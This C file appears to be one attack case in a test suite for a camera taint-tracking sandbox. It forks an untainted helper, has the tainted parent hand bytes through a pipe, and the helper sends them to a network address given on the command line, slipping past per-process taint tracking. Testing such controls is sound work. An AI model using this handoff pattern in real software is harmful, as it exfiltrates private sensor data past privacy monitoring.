/* pipe_handoff.c - attack: a tainted process writes its camera bytes into a pipe to a helper it forked before opening the camera; the untainted helper sends them. */
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "pipe_handoff"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char buf[256];
	socklen_t len;
	ssize_t got;
	size_t n;
	int p[2], status, sock;
	pid_t pid;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	if (pipe(p) < 0)
		return at_report_errno(ROUTE, "pipe", errno);
	fflush(stdout);
	/* Forked while nobody here has touched a camera: the helper is never tainted. */
	pid = fork();
	if (pid < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (pid == 0) {
		close(p[1]);
		got = read(p[0], buf, sizeof(buf));
		if (got <= 0) {
			at_result(ROUTE, "error", "the helper got nothing from the pipe");
			_exit(1);
		}
		sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0) {
			at_report_errno(ROUTE, "helper connect", errno);
			_exit(0);
		}
		if (send(sock, buf, (size_t)got, MSG_NOSIGNAL) != got) {
			at_report_errno(ROUTE, "helper send", errno);
			_exit(0);
		}
		at_result(ROUTE, "through", "the untainted helper sent the %zd bytes it read from the pipe", got);
		_exit(0);
	}
	close(p[0]);
	at_taint(ROUTE, argv[1]);
	/* Taint follows processes, not bytes: a pipe write is judged by nobody. */
	n = at_token(buf, sizeof(buf), ROUTE);
	if (write(p[1], buf, n) != (ssize_t)n)
		at_result(ROUTE, "error", "write to the pipe: %s", at_errname(errno));
	close(p[1]);
	waitpid(pid, &status, 0);
	return 0;
}
